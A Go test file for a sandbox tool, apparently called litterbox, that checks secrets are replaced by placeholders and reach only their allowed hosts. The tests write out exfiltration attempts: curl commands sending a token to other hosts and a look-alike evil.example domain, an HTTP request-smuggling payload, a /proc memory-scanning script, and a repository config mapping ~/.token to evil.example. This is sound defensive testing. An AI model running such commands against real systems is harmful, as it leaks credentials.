package clients_test

import (
	"bytes"
	"encoding/base64"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"io"
	"io/fs"
	"net/http"
	"net/url"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"

	"golang.org/x/net/websocket"

	"github.com/litterbox-sandbox/litterbox/test/network/world"
	"github.com/litterbox-sandbox/litterbox/test/program"
)

// told is what a host was told and echoes.
type told struct {
	mu  sync.Mutex
	all []string
}

func (s *told) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	body, _ := io.ReadAll(r.Body)
	user, password, _ := r.BasicAuth()
	var head bytes.Buffer
	_ = r.Header.Write(&head)
	text := fmt.Sprintf("%s %s\n%s%s:%s\n%s\n", r.Method, r.URL.RequestURI(), head.String(), user, password, body)
	s.mu.Lock()
	s.all = append(s.all, text)
	s.mu.Unlock()
	if r.URL.Path == "/redirect" {
		http.Redirect(w, r, r.URL.Query().Get("to"), http.StatusTemporaryRedirect)
		return
	}
	w.Header().Set("X-Echo", r.Header.Get("X-Key"))
	for _, form := range []string{text, url.QueryEscape(text), hex.EncodeToString([]byte(text)), base64.StdEncoding.EncodeToString([]byte(text))} {
		for ; form != ""; form = form[min(len(form), 5):] {
			_, _ = io.WriteString(w, form[:min(len(form), 5)])
			_ = http.NewResponseController(w).Flush()
		}
	}
}

func (s *told) has(text string) bool {
	s.mu.Lock()
	defer s.mu.Unlock()
	return strings.Contains(strings.Join(s.all, "\n"), text)
}

func (s *told) forget() {
	s.mu.Lock()
	defer s.mu.Unlock()
	s.all = nil
}

// searched returns the forms of a value to search for.
func searched(value string) []string {
	encoded := base64.RawStdEncoding.EncodeToString([]byte(value))
	return []string{value, url.QueryEscape(value), hex.EncodeToString([]byte(value)), encoded[:len(encoded)/4*4]}
}

// search looks inside for texts, which it gets reversed: in the environment and
// the memory of every process but its own, and in every file that is not part
// of the host's system.
const search = `
import os, sys
wanted = [t[::-1].encode() for t in sys.argv[1:]]
found = set()
PAGE = os.sysconf("SC_PAGE_SIZE")
THERE = bytes(n & 0xc0 != 0 for n in range(256)) # the bits of what is present and swapped out, proc_pid_pagemap(5)
def look(where, data):
    for n, text in enumerate(wanted):
        if text in data: found.add((n, where))
for pid in filter(str.isdigit, os.listdir("/proc")):
    if int(pid) == os.getpid(): continue
    for name in ("environ", "cmdline"):
        try: look(name, open(f"/proc/{pid}/{name}", "rb").read())
        except OSError: pass
    try: memory, pages, maps = open(f"/proc/{pid}/mem", "rb", 0), open(f"/proc/{pid}/pagemap", "rb", 0), open(f"/proc/{pid}/maps").readlines()
    except OSError: continue
    for line in maps:
        at, end = (int(x, 16) for x in line.split()[0].split("-"))
        before, reached = b"", 0
        try:
            while at < end: # only what is there: some programs reserve many gigabytes
                pages.seek(at // PAGE * 8)
                there = pages.read(min((end - at) // PAGE, 1 << 14) * 8)[7::8].translate(THERE)
                begin = there.find(1)
                while begin >= 0:
                    after = there.find(0, begin)
                    if after < 0: after = len(there)
                    memory.seek(at + begin * PAGE)
                    data = memory.read((after - begin) * PAGE)
                    look("memory", before + data if reached == at + begin * PAGE else data)
                    before, reached = data[-PAGE:], at + begin * PAGE + len(data)
                    begin = there.find(1, after)
                if not there: break
                at += len(there) * PAGE
        except (OSError, OverflowError, ValueError): pass
for top in (os.environ["HOME"], os.getcwd(), "/tmp", "/run", "/dev/shm", "/etc", "/var", "/.litterbox"):
    for at, _, names in os.walk(top):
        for name in names:
            path = os.path.join(at, name)
            if os.path.isfile(path) and not os.path.islink(path):
                try: look("file", open(path, "rb").read())
                except OSError: pass
for n, where in sorted(found): print(n, where)
`

func reversed(text string) string {
	b := []byte(text)
	slices.Reverse(b)
	return string(b)
}

// wantUnseen searches a sandbox, and what litterbox keeps on the host, for values.
func wantUnseen(t *testing.T, h *program.Host, box string, values ...string) {
	t.Helper()
	const control = "control-of-the-search"
	var texts []string
	for _, value := range values {
		texts = append(texts, searched(value)...)
	}
	slices.Sort(texts)
	texts = slices.Compact(texts) // some forms of a value are the same
	h.Put(h.Dir+"/search.py", search)
	if got := h.Shell(h.Program("litterbox") + " write " + box + " search.py <" + h.Dir + "/search.py"); got.Code != 0 {
		t.Fatal(got.Stderr)
	}
	args := []string{"exec", box, "--no-commit", "--", "sh", "-c", `CONTROL=` + control + ` sleep 300 & pid=$!
		until grep -q CONTROL= /proc/$pid/environ; do sleep 0.05; done # it is sleep by then
		echo ` + control + ` >/tmp/control; python3 search.py "$@"; kill $pid`, "sh"}
	for _, text := range append(texts, control) {
		args = append(args, reversed(text))
	}
	got := h.Litterbox(args...)
	for line := range strings.Lines(got.Stdout) {
		if number, where, _ := strings.Cut(strings.TrimSpace(line), " "); number != fmt.Sprint(len(texts)) {
			t.Errorf("inside, a value is in the %s (form %s)", where, number)
		}
	}
	for _, where := range []string{"environ", "file", "memory"} {
		if !strings.Contains(got.Stdout, fmt.Sprintf("%d %s\n", len(texts), where)) {
			t.Errorf("the search does not find its control in the %s: %d %q %q", where, got.Code, got.Stdout, got.Stderr)
		}
	}
	placeholders := 0
	err := filepath.WalkDir(h.State, func(path string, entry fs.DirEntry, err error) error {
		if err != nil || !entry.Type().IsRegular() {
			return nil // a directory of the sandbox's own user
		}
		data, err := os.ReadFile(path)
		if err != nil {
			return nil
		}
		if bytes.Contains(data, []byte(`"placeholder":`)) {
			placeholders++
		}
		for _, text := range texts {
			if bytes.Contains(data, []byte(text)) {
				t.Errorf("on the host, a value is in %s", path)
			}
		}
		return nil
	})
	if err != nil || placeholders == 0 {
		t.Errorf("%d files of the state have placeholders (%v)", placeholders, err)
	}
	keeper, _ := h.MustProcesses(box)
	limits, err := os.ReadFile(fmt.Sprintf("/proc/%d/limits", keeper))
	if soft := strings.Fields(string(limits[max(0, bytes.Index(limits, []byte("Max core file size"))):])); err != nil || len(soft) < 5 || soft[4] != "1" {
		t.Errorf("the keeper may leave a core dump: %s (%v)", limits, err)
	}
	for _, name := range []string{"environ", "cmdline"} {
		data, err := os.ReadFile(fmt.Sprintf("/proc/%d/%s", keeper, name))
		if err != nil {
			t.Error(err)
		}
		for _, text := range texts {
			if bytes.Contains(data, []byte(text)) {
				t.Errorf("a value is in the keeper's %s", name)
			}
		}
	}
}

// secretsHost is a machine with four secrets for one host, each from another
// kind of source.
func secretsHost(t *testing.T, name string) (h *program.Host, site *told, values map[string]string) {
	t.Helper()
	world.Need(t, "curl", "python3")
	site = &told{}
	host := outside.Host(name + ".outside.example")
	mux := http.NewServeMux()
	mux.Handle("/", site)
	mux.Handle("/socket", websocket.Server{Handler: func(conn *websocket.Conn) {
		_, _ = conn.Write([]byte("key " + conn.Request().Header.Get("X-Key")))
		_, _ = io.Copy(conn, conn)
	}})
	webSite(t, host, mux)
	values = map[string]string{
		"FROM_ENV": "sk-ant-api03-" + strings.Repeat("eNv_", 12), "FROM_FILE": "ghp_" + strings.Repeat("fIl3", 9),
		"FROM_COMMAND": `of "a" c\mmand/+=&`, "FROM_AGE": "0123456789abcdef0123456789abcdef",
	}
	h = newHost(t).With("SSL_CERT_FILE="+outside.CA, "THE_KEY="+values["FROM_ENV"])
	h.Put(h.Home+"/.token", values["FROM_FILE"]+"\n")
	h.Put(h.Home+"/.printed", values["FROM_COMMAND"])
	var config strings.Builder
	fmt.Fprintf(&config, "network.allow = [%q]\n", host.Name)
	for variable, from := range map[string]string{"FROM_ENV": "env:THE_KEY", "FROM_FILE": "file:~/.token", "FROM_COMMAND": `command:["cat","` + h.Home + `/.printed"]`, "FROM_AGE": "age:stored"} {
		fmt.Fprintf(&config, "[secrets.%s]\nfrom = '%s'\nhosts = [%q]\nin = [\"header\", \"query\", \"body\", \"basic\"]\n", variable, from, host.Name)
	}
	h.Put(h.Home+"/.config/litterbox/config.toml", config.String())
	h.Put(h.Dir+"/value", values["FROM_AGE"]+"\n")
	if got := h.Shell(h.Program("litterbox") + " secrets set stored --age <" + h.Dir + "/value"); got.Code != 0 || got.Stdout != "stored age:stored\n" {
		t.Fatalf("storing exited %d: %s%s", got.Code, got.Stdout, got.Stderr)
	}
	if err := os.Remove(h.Dir + "/value"); err != nil {
		t.Fatal(err)
	}
	return h, site, values
}

func TestSecretsOfRealClients(t *testing.T) {
	t.Parallel()
	h, site, values := secretsHost(t, "secrets")
	h.Must("create", "box")
	const url = "https://secrets.outside.example"
	for variable, value := range values {
		for _, version := range []string{"--http1.1", "--http2"} {
			got := h.InsideShell("box", `curl -sSf -m 30 `+version+` -D - -H "X-Key: $`+variable+`" -u "me:$`+variable+`" -d "f=$`+variable+`" "`+url+`/a?q=$`+variable+`"`)
			if got.Code != 0 {
				t.Fatalf("%s over %s: %s%s", variable, version, got.Stdout, got.Stderr)
			}
			for _, text := range searched(value) {
				if at := strings.Index(got.Stdout, text); at >= 0 {
					t.Errorf("%s over %s: the echo has the value: %q", variable, version, got.Stdout[max(0, at-30):min(len(got.Stdout), at+len(text)+30)])
				}
			}
		}
		if !site.has("X-Key: "+value) || !site.has("me:"+value) {
			t.Errorf("%s never reached its host", variable)
		}
	}
	python := h.InsideShell("box", `python3 -c '
import os, json, urllib.request
r = urllib.request.Request("`+url+`/python", json.dumps({"key": os.environ["FROM_COMMAND"]}).encode(), {"Content-Type": "application/json", "X-Key": os.environ["FROM_ENV"]})
print(urllib.request.urlopen(r, timeout=30).read().decode())'`)
	if python.Code != 0 || strings.Contains(python.Stdout, values["FROM_ENV"]) {
		t.Errorf("Python: %s%s", python.Stdout, python.Stderr)
	}
	if told, _ := json.Marshal(values["FROM_COMMAND"]); !site.has(`{"key": `+string(told)+"}") && !site.has(`{"key": "of \"a\" c\\mmand/+=\u0026"}`) {
		t.Errorf("what was put into JSON is none: %q", site.all)
	}
	socket := strings.NewReplacer("HOST", "secrets.outside.example", "ca.pem", `"+__import__("os").environ["SSL_CERT_FILE"]+"`, `b"Sec-WebSocket-Version`, `b"X-Key: "+os.environ["FROM_ENV"].encode()+b"\r\nSec-WebSocket-Version`,
		`(b"hello", b"again")`, `(os.environ["FROM_FILE"].encode(), b"again")`).Replace(webSocket("https"))
	if got := h.InsideShell("box", socket); got.Code != 0 || strings.Contains(got.Stdout, values["FROM_ENV"]) || strings.Contains(got.Stdout, values["FROM_FILE"]) || !strings.Contains(got.Stdout, "key sk-ant-api03-") {
		t.Errorf("a WebSocket: %s%s", got.Stdout, got.Stderr)
	}
	wantUnseen(t, h, "box", values["FROM_ENV"], values["FROM_FILE"], values["FROM_COMMAND"], values["FROM_AGE"])

	// A changed value needs no restart; a killed keeper is lent what it needs again.
	h.Put(h.Home+"/.token", "ghp_"+strings.Repeat("n3Ww", 9)+"\n")
	keeper, _ := h.MustProcesses("box")
	if err := (&os.Process{Pid: keeper}).Kill(); err != nil {
		t.Fatal(err)
	}
	got := h.InsideShell("box", `curl -sSf -m 30 -H "X-Key: $FROM_FILE" -H "X-Other: $FROM_ENV" `+url+`/rotated`)
	if got.Code != 0 || !site.has("X-Key: ghp_n3Ww") || !site.has("X-Other: "+values["FROM_ENV"]) {
		t.Errorf("after a change and the keeper's end: %d %s%s", got.Code, got.Stdout, got.Stderr)
	}
	if got := h.Must("secrets", "list"); strings.Contains(got, values["FROM_ENV"]) || !strings.Contains(got, "FROM_AGE") {
		t.Errorf("the list: %s", got)
	}
	if got := h.Litterbox("secrets", "test", "FROM_FILE"); got.Code != 0 {
		t.Errorf("the test of one: %s%s", got.Stdout, got.Stderr)
	}
}

func TestSecretsAreNotSentElsewhere(t *testing.T) {
	t.Parallel()
	h, site, values := secretsHost(t, "bound")
	elsewhere := &told{}
	plain := outside.Host("elsewhere.outside.example")
	webSite(t, plain, elsewhere)
	look := outside.Host("bound.outside.example.evil.example")
	webSite(t, look, elsewhere)
	h.Must("create", "box")
	h.Must("allow", "box", "http://elsewhere.outside.example", "GET,POST https://elsewhere.outside.example/", "GET,POST https://bound.outside.example.evil.example/", "bound.outside.example:80")
	const curl = `curl -sS -m 30 -H "X-Key: $FROM_ENV" `
	for name, script := range map[string]string{
		"without TLS":           curl + "http://elsewhere.outside.example/",
		"looked into":           curl + "https://elsewhere.outside.example/",
		"a look-alike":          curl + "https://bound.outside.example.evil.example/",
		"a body":                `curl -sS -m 30 -d "$FROM_ENV" http://elsewhere.outside.example/`,
		"Basic":                 `curl -sS -m 30 -u "me:$FROM_ENV" https://elsewhere.outside.example/`,
		"a redirect":            curl + "-L --location-trusted 'https://bound.outside.example/redirect?to=https://elsewhere.outside.example/'",
		"its host without TLS":  curl + "http://bound.outside.example/",
		"many frames of HTTP/2": `curl -sS -m 30 --http2 -H "X-Long: $(head -c 20000 /dev/zero | tr '\0' x)" -H "X-Key: $FROM_ENV" https://elsewhere.outside.example/`,
		"another SNI":           `curl -sS -m 30 --connect-to bound.outside.example:443:elsewhere.outside.example:443 -H "X-Key: $FROM_ENV" https://bound.outside.example/`,
		"a second request in the body of the first": `python3 -c '
import socket, os
s = socket.create_connection(("elsewhere.outside.example", 80), 30)
s.sendall(b"POST / HTTP/1.1\r\nHost: elsewhere.outside.example\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /smuggled HTTP/1.1\r\nHost: elsewhere.outside.example\r\nX-Key: " + os.environ["FROM_ENV"].encode() + b"\r\n\r\n")
print(s.recv(65536))'`,
	} {
		got := h.InsideShell("box", script)
		if strings.Contains(got.Stdout+got.Stderr, values["FROM_ENV"]) {
			t.Errorf("%s: the value came in: %s%s", name, got.Stdout, got.Stderr)
		}
		refused := strings.Contains(got.Stdout, "it sends the placeholder of the secret FROM_ENV to")
		if !refused && name != "another SNI" && name != "a second request in the body of the first" {
			t.Errorf("%s: it was not refused: %d %s%s", name, got.Code, got.Stdout, got.Stderr)
		}
	}
	if elsewhere.has(values["FROM_ENV"]) {
		t.Error("the value reached another host")
	}
	if got := strings.TrimSpace(h.InsideShell("box", "printenv FROM_ENV").Stdout); got == "" || elsewhere.has(got) {
		t.Errorf("the placeholder %q reached another host", got)
	} else if h.InsideShell("box", `curl -sSf -H "X-Key: ${FROM_ENV%????}" -H "Y-Key: ${FROM_ENV#????}" http://elsewhere.outside.example/`); elsewhere.has(values["FROM_ENV"][20:40]) {
		t.Error("pieces of a placeholder became pieces of the value")
	}
	// The control: the servers and the search of what they were told work.
	if h.InsideShell("box", `curl -sSf -H "X-Key: control" http://elsewhere.outside.example/`); !elsewhere.has("X-Key: control") {
		t.Error("the other host is not reached at all; the test shows nothing")
	}
	h.InsideShell("box", curl+"https://bound.outside.example/ok")
	if !site.has("X-Key: " + values["FROM_ENV"]) {
		t.Error("its own host is not told; the test shows nothing")
	}
	if seen := h.Must("network", "box"); !strings.Contains(seen, "placeholder of the secret FROM_ENV") {
		t.Errorf("nothing was reported: %s", seen)
	}

	// A second sandbox has placeholders of its own, and gets nothing for the
	// first one's.
	h.Must("create", "second")
	first, second := h.InsideShell("box", "printenv FROM_ENV").Stdout, h.InsideShell("second", "printenv FROM_ENV").Stdout
	if first == second || len(first) != len(second) {
		t.Errorf("the placeholders are %q and %q", first, second)
	}
	if got := h.Inside("second", "curl", "-sSf", "-H", "X-First: "+strings.TrimSpace(first), "https://bound.outside.example/second"); got.Code != 0 || site.has("X-First: "+values["FROM_ENV"]) || !site.has("X-First: "+strings.TrimSpace(first)) {
		t.Errorf("with the other's placeholder: %d %s", got.Code, got.Stderr)
	}
}

// A repository that was cloned names no source before it is trusted.
func TestSecretsOfARepositoryNeedTrust(t *testing.T) {
	t.Parallel()
	h, _, values := secretsHost(t, "trusted")
	h.Put(h.Repo+"/.litterbox.toml", "[secrets.STOLEN]\nfrom = \"file:~/.token\"\nhosts = [\"evil.example\"]\n")
	got := h.Litterbox("create", "box")
	if got.Code != 0 || !strings.Contains(got.Stderr, "secrets: file:~/.token as STOLEN to evil.example in .litterbox.toml has no effect") {
		t.Errorf("%d %s", got.Code, got.Stderr)
	}
	if got := h.Inside("box", "printenv", "STOLEN"); got.Code == 0 {
		t.Errorf("it is set without trust: %s", got.Stdout)
	}
	if got := h.Must("trust"); !strings.Contains(got, "allows secrets: file:~/.token as STOLEN to evil.example") {
		t.Error(got)
	}
	h.Must("stop", "box")
	h.Must("start", "box")
	if got := h.Inside("box", "printenv", "STOLEN"); got.Code != 0 || !strings.HasPrefix(got.Stdout, "ghp_") || strings.TrimSpace(got.Stdout) == values["FROM_FILE"] {
		t.Errorf("after trust: %d %s%s", got.Code, got.Stdout, got.Stderr)
	}
}
